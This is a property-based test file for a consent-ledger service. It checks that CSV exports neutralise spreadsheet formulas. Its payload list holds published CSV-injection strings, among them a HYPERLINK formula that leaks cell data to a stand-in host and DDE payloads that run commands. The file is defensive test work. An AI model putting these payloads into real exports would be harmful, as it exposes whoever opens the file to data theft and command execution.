import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { admin, appendLedgerRow, consentEvent, postJson } from '../../worker/test/fixtures.js';
import { csvCell } from '../../worker/src/services/ledger-export.js';
import { formulaLike, parseCsv } from './support/csv.js';
import { NASTY_PIECES } from './support/hostile-values.js';
import { fuzzSeed, runScale } from './support/scale.js';
import { bodyText } from './support/send.js';
import { clientAddress, createTenant, type Tenant, TENANT_REVISION } from './support/tenants.js';

/** Payloads of published CSV-injection attacks, and the variants the export must also catch. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
  '=1+1,"quoted",=2+2',
];

const scale = runScale();
const figures = { cells: 0, formulaLike: 0, exportCells: 0, exportNeutralised: 0 };

/** A cell as a spreadsheet reads it back from one line of CSV. */
const readBack = (cell: string) => parseCsv(`${cell}\r\n`)[0]?.[0] ?? '';

describe('CSV exports neutralise spreadsheet formulas', () => {
  afterAll(() => {
    console.log(
      `CSV: ${figures.cells} generated cells (${figures.formulaLike} formula-like) and ${figures.exportCells} cells of real exports ` +
        `(${figures.exportNeutralised} neutralised) checked: none opens as a formula`,
    );
  });

  it('prefixes every formula-like cell with a quote, leaves every other cell as it was, and keeps CSV well-formed', () => {
    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20');
    const filler = fc.string({ unit: fc.oneof(fc.constantFrom(...NASTY_PIECES, ' ', ',', '"', '\u00A0', '\u200B'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), maxLength: 12 });
    const text = fc.oneof(
      fc.tuple(fc.string({ unit: fc.constantFrom(' ', '\t', '\u00A0', '\u200B', '\u202E', '\uFEFF', '\u0000'), maxLength: 3 }), trigger, filler).map((parts) => parts.join('')),
      filler,
      fc.constantFrom(...PAYLOADS),
    );
    fc.assert(
      fc.property(text, (value) => {
        const cell = csvCell(value);
        const read = readBack(cell);
        figures.cells += 1;
        if (formulaLike(value)) figures.formulaLike += 1;
        expect(formulaLike(read), JSON.stringify(cell)).toBe(false);
        expect(read).toBe(formulaLike(value) ? `'${value}` : value);
        // One cell: a comma, quote or line break inside is quoted, so it cannot split the record.
        if (/[",\r\n]/.test(read)) expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
      }),
      { numRuns: scale.csvCells, seed: fuzzSeed() },
    );
  });

  describe('the ledger export of a site whose visitors and rows carry the payloads', () => {
    let tenant: Tenant;
    beforeAll(async () => {
      tenant = await createTenant('csv');
      // Through the API, as a visitor's browser: the user agent is free text, ids may start with `-`.
      for (const [index, payload] of PAYLOADS.entries()) {
        const userAgent = payload.replace(/[^\x20-\x7E]/g, '');
        const event = consentEvent({ subjectId: `-subject-${String(index).padStart(12, '0')}`, eventId: `--event-${index}-${crypto.randomUUID()}`, revision: TENANT_REVISION });
        const res = await postJson(`/v1/sites/${tenant.siteId}/consents`, event, { origin: tenant.origin, headers: { 'User-Agent': userAgent, 'CF-Connecting-IP': clientAddress() } });
        expect(res.status).toBe(201);
      }
      // Straight into the ledger, beyond what validation lets through today: every text column of a row holds a payload.
      for (const [index, payload] of PAYLOADS.entries()) {
        const text = `${payload}#${index}`;
        await appendLedgerRow(tenant.siteId, {
          receiptId: text,
          eventId: `${payload}#e${index}`,
          subjectId: `${payload}#s${index}`,
          categories: { necessary: true },
          method: 'api',
          recordedAt: new Date(Date.UTC(2026, 0, 1, 0, 0, index)).toISOString(),
          payloadHash: text,
          locale: text,
          region: text,
          country: text,
          userAgent: text,
          occurredAt: text,
        });
      }
    });

    it('opens with no cell read as a formula, and every payload still there behind its quote', async () => {
      const res = await admin(`/v1/admin/sites/${tenant.siteId}/consents?format=csv`, tenant.keys.viewer);
      expect(res.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
      const [header, ...records] = parseCsv(await bodyText(res));
      expect(records.length).toBe(3 + PAYLOADS.length * 2);
      for (const record of records) {
        expect(record.length).toBe(header!.length);
        for (const cell of record) {
          figures.exportCells += 1;
          if (cell.startsWith("'")) figures.exportNeutralised += 1;
          expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
        }
      }
      const cells = records.flat();
      for (const [index, payload] of PAYLOADS.entries()) expect(cells).toContain(`'${payload}#${index}`);
      expect(cells.filter((cell) => cell.startsWith("'-subject-"))).toHaveLength(PAYLOADS.length);
    });
  });
});
